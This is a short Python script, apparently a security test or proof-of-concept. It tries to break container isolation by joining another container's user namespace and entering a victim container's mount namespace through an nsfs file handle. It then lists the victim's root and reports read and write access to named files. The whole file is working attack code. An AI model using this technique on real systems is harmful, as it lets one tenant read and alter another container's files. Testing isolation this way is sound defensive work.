#!/usr/bin/env python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""Attacks a container that is being made in the user namespace of another one. Usage: join-attack.py PID VICTIM FILE...

Becomes root of the user namespace of PID, in its mount namespace, with CAP_SYS_ADMIN and CAP_SYS_CHROOT alone, as a
process of that container may be. Then it enters the mount namespace of VICTIM, whose process it may not trace, by a file
handle of nsfs. The handle is passed here; a process in the container guesses it, from that of a namespace of its own.
Prints what is in the root there, and whether each FILE could be read and written to; or "no handles" if the kernel has
none for namespaces.
"""
import ctypes
import os
import struct
import sys

AT_EMPTY_PATH, CLONE_NEWNS, CLONE_NEWUSER = 0x1000, 0x20000, 0x10000000
CAP_SYS_CHROOT, CAP_SYS_ADMIN = 18, 21
libc = ctypes.CDLL(None, use_errno=True)


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("type", ctypes.c_int), ("bytes", ctypes.c_ubyte * 64)]


def check(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def try_to(what, path, mode):
    try:
        with open(path, mode, encoding="utf-8") as file:
            return what if mode == "a" or file.read() else "empty"
    except OSError as error:
        return os.strerror(error.errno)


pid, victim, paths = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3:]
user, own = (os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY) for name in ("user", "mnt"))
other = os.open(f"/proc/{victim}/ns/mnt", os.O_RDONLY)
handle, mount = Handle(64), ctypes.c_int()
if libc.name_to_handle_at(other, b"", ctypes.byref(handle), ctypes.byref(mount), AT_EMPTY_PATH) < 0:
    print("no handles")
    sys.exit()
os.close(other)
os.setgroups([])
check(libc.setns(user, CLONE_NEWUSER))
check(libc.setns(own, CLONE_NEWNS))
os.setresgid(0, 0, 0)
os.setresuid(0, 0, 0)
kept = 1 << CAP_SYS_ADMIN | 1 << CAP_SYS_CHROOT
check(libc.capset(struct.pack("=Ii", 0x20080522, 0), struct.pack("=IIIIII", kept, kept, 0, 0, 0, 0)))
check(libc.setns(check(libc.open_by_handle_at(own, ctypes.byref(handle), os.O_RDONLY)), CLONE_NEWNS))
found = [try_to(what, path, mode) for path in paths for what, mode in (("read", "r"), ("written", "a"))]
print(", ".join([" ".join(sorted(os.listdir("/"))), *found]))
